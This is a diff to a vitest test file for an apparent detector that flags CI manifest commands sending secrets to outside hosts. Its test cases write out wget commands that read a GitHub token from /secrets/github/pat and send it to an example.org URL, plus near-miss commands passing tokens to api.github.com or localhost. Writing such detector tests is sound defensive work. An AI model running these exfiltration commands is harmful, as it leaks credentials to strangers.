@@ -1,6 +1,20 @@
 import { it } from "vitest";
-import { beforeSync, expectFound, expectSilence, fluxRelease, seeding, text } from "../test-check.ts";
+import {
+  beforeSync,
+  expectFound,
+  expectSilence,
+  fluxRelease,
+  release,
+  seeding,
+  text,
+} from "../test-check.ts";
 
+const variable = (line: string) =>
+  text(
+    release,
+    '              GIT_TERMINAL_PROMPT: "0"\n',
+    `              GIT_TERMINAL_PROMPT: "0"\n              ${line}\n`,
+  );
 const cloning = (line: string) =>
   text(fluxRelease, "                sync\n", `                ${line}\n                sync\n`);
 
@@ -32,6 +46,17 @@ it("finds secrets that are sent to strangers", () =>
     ],
   ]));
 
+it("finds a secret that follows another command, and one for whom a variable names", () =>
+  expectFound("manifests", [
+    [
+      beforeSync('test -s "$repo" && wget -q -O- "$LIBRARY/?a;b=$(cat /secrets/github/pat)" || true'),
+      "secret-sent",
+      /test -s/,
+      /gives a secret to wget/,
+    ],
+    [variable("LIBRARY: https://example.org"), "secret-sent", /wget/, /git-clone/],
+  ]));
+
 it("has nothing against asking whose it is, and what is no secret", () =>
   expectSilence("manifests", [
     beforeSync(
@@ -40,4 +65,13 @@ it("has nothing against asking whose it is, and what is no secret", () =>
     seeding('wget -q -O /dev/null "https://example.org/?known=$(cat auth.json.seeded)" || true'),
     seeding('echo "nobody should nc /secrets/copilot/auth.json"', fluxRelease),
     cloning("# curl https://example.org/$(cat /secrets/github/pat)"),
+    variable("API: https://api.github.com"),
+    beforeSync(
+      'wget -q -O /dev/null --header "Authorization: Bearer $(cat /secrets/github/pat)" "$API/user" || true',
+    ),
+    beforeSync("[ -s /secrets/github/pat ] && nslookup github.com >/dev/null"),
+    cloning("until nc -z github.com 443; do sleep 1; done; test -s /secrets/github/pat"),
+    seeding(
+      'wget -q -O /dev/null --header "X-Login: $(base64 < /secrets/copilot/auth.json)" http://127.0.0.1:4096/session || true',
+    ),
   ]));
